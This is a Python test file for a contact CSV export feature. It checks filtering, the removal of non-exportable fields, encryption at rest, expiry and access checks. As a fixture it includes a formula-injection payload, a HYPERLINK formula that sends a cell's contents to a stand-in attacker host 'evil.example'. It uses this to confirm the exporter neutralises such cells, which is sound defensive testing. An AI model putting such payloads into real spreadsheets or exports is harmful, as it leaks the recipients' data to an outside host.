"""CSV export: the filter (JSON and the reference's GraphQL text), only exportable fields,
formula cells neutralized, the file sealed at rest, who may fetch it, and expiry."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import httpx
from sqlalchemy import select, update

from trustroom.clients.models import ClientExport
from trustroom.clients.tasks import EXPORT
from trustroom.db import Database, bind_tenant, utcnow
from trustroom.http import API_PREFIX
from trustroom.settings import Settings
from trustroom.storage.models import Blob
from trustroom.storage.tasks import SWEEP_EXPIRED

from ..factories import TenantFixture
from ..helpers import events_of, run_jobs, stored_blobs
from .conftest import CONTACTS, Person, anna, create_contact
from .test_search import REFERENCE_QUERY

EXPORTS = f"{API_PREFIX}/exports"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME = 'Shannon "Shay", Jr.\nSecond line'


def rows_of(body: bytes) -> list[dict[str, str]]:
    """The CSV as Python's csv module reads it (an independent reader of RFC 4180)."""
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


async def export(
    client: httpx.AsyncClient,
    database: Database,
    settings: Settings,
    tenant: TenantFixture,
    headers: dict[str, str],
    **request: Any,
) -> dict[str, Any]:
    started = await client.post(f"{CONTACTS}/export", headers=headers, **request)
    assert started.status_code == 202, started.text
    export_id = started.json()["exportJobId"]
    await run_jobs(database, settings, tenant, EXPORT)
    status = await client.get(f"{EXPORTS}/{export_id}", headers=headers)
    assert status.status_code == 200, status.text
    answer: dict[str, Any] = status.json()
    return answer


async def test_export_filters_with_the_reference_query_and_neutralizes_formulas(
    client: httpx.AsyncClient, database: Database, settings: Settings, tenant: TenantFixture, admin: Person
) -> None:
    await create_contact(client, tenant.headers, anna())
    shannon = anna(
        personalInformation={"firstName": FORMULA, "lastName": "@SUM(1)", "displayName": NAME, "language": "FR"},
        address={"city": "-2+3", "street": "Secret Lane 7"},
    )
    chosen = await create_contact(client, tenant.headers, shannon)

    # The schema owner takes the street out of exports.
    schema = (await client.get(f"{API_PREFIX}/schemas/contact", headers=admin.headers)).json()
    document = schema["jsonSchema"]
    document["properties"]["address"]["properties"]["street"]["x-field"]["isExportable"] = False
    saved = await client.put(
        f"{API_PREFIX}/schemas/contact",
        headers=admin.headers,
        json={"jsonSchema": document, "concurrencyToken": schema["concurrencyToken"]},
    )
    assert saved.status_code == 200, saved.text

    status = await export(
        client,
        database,
        settings,
        tenant,
        {**tenant.headers, "Content-Type": "text/plain"},
        content=REFERENCE_QUERY,
    )
    assert status["status"] == "Succeeded"
    assert (status["totalCount"], status["processedCount"]) == (1, 1)
    assert status["fileUrl"] == f"{EXPORTS}/{status['exportJobId']}/file"

    fetched = await client.get(status["fileUrl"], headers=tenant.headers)
    assert fetched.status_code == 200, fetched.text
    assert fetched.headers["content-type"].startswith("text/csv")
    assert "attachment" in fetched.headers["content-disposition"]
    assert fetched.headers["x-content-type-options"] == "nosniff"
    assert int(fetched.headers["content-length"]) == len(fetched.content) == status["byteSize"]
    rows = rows_of(fetched.content)
    assert len(rows) == 1
    row = rows[0]
    assert (row["id"], row["createdAt"], row["contactTypeId"]) == (chosen["id"], chosen["createdAt"], "1")
    assert row["personalInformation.displayName"] == NAME  # quotes, comma and line break survive
    assert row["personalInformation.firstName"] == "'" + FORMULA
    assert row["personalInformation.lastName"] == "'@SUM(1)"
    assert row["communication.mobile"] == "+41791234567"  # a number cannot run anything: left usable
    assert row["address.city"] == "'-2+3"  # arithmetic is a formula too
    assert "address.street" not in row
    assert b"Secret Lane" not in fetched.content

    [(kind, data)] = await events_of(database, tenant, "export.")
    assert (kind, data["jobId"], data["count"], data["status"]) == (
        "export.completed",
        status["exportJobId"],
        1,
        "Succeeded",
    )


async def test_the_file_is_sealed_at_rest_and_expires(
    client: httpx.AsyncClient, database: Database, settings: Settings, tenant: TenantFixture
) -> None:
    marker = "Unmistakable-Marker-4711"
    for _ in range(3):
        await create_contact(client, tenant.headers, anna(personalInformation={"lastName": marker}))
    status = await export(client, database, settings, tenant, tenant.headers, json={})
    assert status["totalCount"] == 3

    async with database.session(write=False) as session:
        await bind_tenant(session, tenant.id)
        blob = await session.scalar(
            select(Blob).join(ClientExport, ClientExport.blob_id == Blob.id).where(ClientExport.tenant_id == tenant.id)
        )
    assert blob is not None
    stored = stored_blobs(settings)[str(blob.id)]
    assert marker.encode() not in stored
    fetched = await client.get(status["fileUrl"], headers=tenant.headers)
    assert fetched.content.count(marker.encode()) == 3

    async with database.session() as session:
        await bind_tenant(session, tenant.id)
        past = utcnow() - timedelta(seconds=1)
        await session.execute(update(ClientExport).where(ClientExport.tenant_id == tenant.id).values(expires_at=past))
        await session.execute(update(Blob).where(Blob.id == blob.id).values(expires_at=past))
        await session.commit()
    gone = await client.get(status["fileUrl"], headers=tenant.headers)
    assert (gone.status_code, gone.json()["subCode"]) == (410, "ExportExpired")
    assert (await client.get(f"{EXPORTS}/{status['exportJobId']}", headers=tenant.headers)).json()[
        "status"
    ] == "Expired"

    await run_jobs_once(database, settings, tenant)
    assert str(blob.id) not in stored_blobs(settings)


async def run_jobs_once(database: Database, settings: Settings, tenant: TenantFixture) -> None:
    """Enqueue one sweep and run it."""
    from trustroom.jobs import service as jobs

    async with database.session() as session:
        await jobs.enqueue(session, SWEEP_EXPIRED)
        await session.commit()
    await run_jobs(database, settings, tenant, SWEEP_EXPIRED)


async def test_only_the_requester_fetches_an_export_and_bad_filters_queue_nothing(
    client: httpx.AsyncClient,
    database: Database,
    settings: Settings,
    tenant: TenantFixture,
    advisor: Person,
    admin: Person,
) -> None:
    await create_contact(client, tenant.headers)
    mine = await export(client, database, settings, tenant, admin.headers)
    assert mine["status"] == "Succeeded"
    # An advisor may not export at all; a second admin sees every record anyway (read-all).
    refused = await client.post(f"{CONTACTS}/export", headers=advisor.headers)
    assert (refused.status_code, refused.json()["subCode"]) == (403, "MissingScope")
    assert (await client.get(f"{EXPORTS}/{mine['exportJobId']}", headers=advisor.headers)).status_code == 403

    bad = await client.post(
        f"{CONTACTS}/export", headers=tenant.headers, json={"where": {"personalInformation": {"shoeSize": {"eq": 42}}}}
    )
    assert (bad.status_code, bad.json()["subCode"]) == (400, "FilterInvalid")
    assert "where/personalInformation/shoeSize" in bad.json()["detail"]
    wrong_type = await client.post(
        f"{CONTACTS}/export", headers={**tenant.headers, "Content-Type": "application/xml"}, content=b"<where/>"
    )
    assert (wrong_type.status_code, wrong_type.json()["subCode"]) == (415, "UnsupportedMediaType")
    async with database.session(write=False) as session:
        await bind_tenant(session, tenant.id)
        count = len(list(await session.scalars(select(ClientExport.id).where(ClientExport.tenant_id == tenant.id))))
    assert count == 1
